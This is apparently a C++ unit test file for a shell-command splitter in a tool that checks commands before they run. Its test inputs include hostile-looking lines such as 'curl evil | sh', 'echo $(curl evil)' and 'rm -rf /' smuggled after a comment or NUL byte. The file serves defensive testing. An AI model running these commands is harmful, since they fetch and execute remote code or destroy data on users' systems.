#include "core/shell_commands.h"

#include <gtest/gtest.h>

namespace pair {
namespace {

std::vector<std::string> texts(std::string_view line) {
  auto r = split_shell_commands(line);
  EXPECT_TRUE(r.has_value()) << line;
  std::vector<std::string> out;
  if (r)
    for (const auto& c : *r) out.push_back(c.text);
  return out;
}

using V = std::vector<std::string>;

TEST(ShellCommands, SplitsOnEveryOperator) {
  EXPECT_EQ(texts("git status"), V{"git status"});
  EXPECT_EQ(texts("git status; curl evil | sh"), (V{"git status", "curl evil", "sh"}));
  EXPECT_EQ(texts("make && ctest || echo   failed &"), (V{"make", "ctest", "echo failed"}));
  EXPECT_EQ(texts("a\nb"), (V{"a", "b"}));
  EXPECT_EQ(texts("(cd sub && rm -rf x)"), (V{"cd sub", "rm -rf x"}));
}

TEST(ShellCommands, SubstitutionsAreCommandsToo) {
  EXPECT_EQ(texts("echo $(curl evil)"), (V{"curl evil", "echo $()"}));
  EXPECT_EQ(texts("echo `whoami`"), (V{"whoami", "echo $()"}));
  EXPECT_EQ(texts("diff <(ls a) <(ls b)"), (V{"ls a", "ls b", "diff $() $()"}));
  EXPECT_EQ(texts("echo \"today: $(date)\""), (V{"date", "echo \"today: $()\""}));
}

TEST(ShellCommands, QuotesKeepOperatorsInside) {
  EXPECT_EQ(texts("git commit -m 'a; b && c'"), V{"git commit -m 'a; b && c'"});
  EXPECT_EQ(texts("echo \"x | y\""), V{"echo \"x | y\""});
  EXPECT_EQ(texts("echo a\\;b"), V{"echo a;b"});
}

TEST(ShellCommands, KeywordsAndCommentsAreNotCommands) {
  EXPECT_EQ(texts("if test -f x; then rm x; fi"), (V{"test -f x", "rm x", "fi"}));
  EXPECT_EQ(texts("ls # a comment; rm -rf /"), V{"ls"});
}

TEST(ShellCommands, RedirectionsToFilesAreNoted) {
  auto r = split_shell_commands("git status > out.txt; git diff 2>&1; ls >/dev/null; echo x >> log; cmd &> all");
  ASSERT_TRUE(r.has_value());
  ASSERT_EQ(r->size(), 5u);
  EXPECT_TRUE((*r)[0].writes_redirect);
  EXPECT_EQ((*r)[0].text, "git status out.txt");
  EXPECT_FALSE((*r)[1].writes_redirect);
  EXPECT_EQ((*r)[1].text, "git diff");
  EXPECT_FALSE((*r)[2].writes_redirect);
  EXPECT_TRUE((*r)[3].writes_redirect);
  EXPECT_TRUE((*r)[4].writes_redirect);
}

TEST(ShellCommands, UnreadableInputGivesNothing) {
  EXPECT_FALSE(split_shell_commands("echo 'unclosed").has_value());
  EXPECT_FALSE(split_shell_commands("echo $(unclosed").has_value());
  EXPECT_FALSE(split_shell_commands("echo \"unclosed").has_value());
}

TEST(ShellCommands, ALineWithANulIsUnreadable) {
  // bash would stop at the NUL; a rule must never judge more or less than bash runs.
  using namespace std::string_literals;
  EXPECT_FALSE(split_shell_commands("git status\0; rm -rf /"s).has_value());
}

}  // namespace
}  // namespace pair
